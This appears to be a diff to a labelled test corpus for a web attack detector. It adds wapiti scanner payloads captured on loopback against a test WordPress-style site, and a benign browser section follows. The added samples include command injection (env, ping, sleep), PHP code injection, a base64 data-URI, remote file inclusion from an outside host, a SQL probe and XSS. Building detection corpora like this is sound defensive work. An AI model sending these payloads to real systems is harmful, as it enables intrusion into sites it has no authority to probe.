@@ -482,6 +482,18 @@ A("ho-cmdi-and", "cmd_injection", "", "PayloadsAllTheThings Command Injection", 
 A("ho-crlf-header", "crlf", "", "PayloadsAllTheThings CRLF Injection", req("GET", "/login?return=%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK"))
 A("ho-ssrf-aws-ipv6", "ssrf", "", "PayloadsAllTheThings SSRF (AWS)", req("GET", "/image?src=http://[fd00:ec2::254]/latest/meta-data/"))
 
+# ------------------------------------------------------------------ wapiti 3.0.4 payloads (captured on loopback against MitsuWeb)
+W = "wapiti 3.0.4 (Debian), captured on loopback"
+WP = "log=admin&pwd={}&rememberme=forever&wp-submit=Log+In&testcookie=1"
+A("wapiti-exec-env", "cmd_injection", "", W, req("POST", "/wp-login.php", FORM, WP.format("a%3Benv%3B")), allow="bruteforce,wordpress")
+A("wapiti-exec-ping", "cmd_injection", "", W, req("GET", "/wp-login.php?action=%26ping+-n+25+127.0.0.1%26"), allow="wordpress")
+A("wapiti-exec-php-md5", "php_code_injection", "", W, req("POST", "/wp-login.php", FORM, WP.format("%27%3Bexit%28md5%28%27w4p1t1_md5%27%29%29%3B%2F%2F")), allow="bruteforce,wordpress")
+A("wapiti-exec-data-uri", "php_code_injection", "", W, req("GET", "/wp-login.php?action=data%3A%3Bbase64%2CPD9waHAgZWNobyAndzRwMXQxJywnX2V2YWwnOyA%2FPg%3D%3D"), allow="wordpress")
+A("wapiti-file-rfi-nul", "rfi", "", W, req("GET", "/index.php?page=https%3A%2F%2Fwapiti3.ovh%2Fe.php%00"))
+A("wapiti-sql-probe", "sqli", "", W, req("POST", "/wp-login.php", FORM, WP.format("Letm3in_%C2%BF%27%22%28")), allow="bruteforce,wordpress")
+A("wapiti-xss-ff", "xss", "", W, req("POST", "/wp-login.php", FORM, WP.format("0%FF%3CsCripT%FF%3Ealert%28%2Fwt08d2r15c%2F%29%3C%2FsCripT%FF%3E%FF0")), allow="bruteforce,wordpress")
+A("wapiti-exec-sleep", "cmd_injection", "", W, req("GET", "/wp-login.php?action=a%3Bsleep+60%3B"), allow="wordpress")
+
 # ================================================================== benign
 src = "browser (captured from Firefox/Chrome requests to a test site)"
 CH = {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8", "Accept-Language": "en-US,en;q=0.5", "Accept-Encoding": "gzip, deflate, br", "Connection": "keep-alive", "Upgrade-Insecure-Requests": "1"}
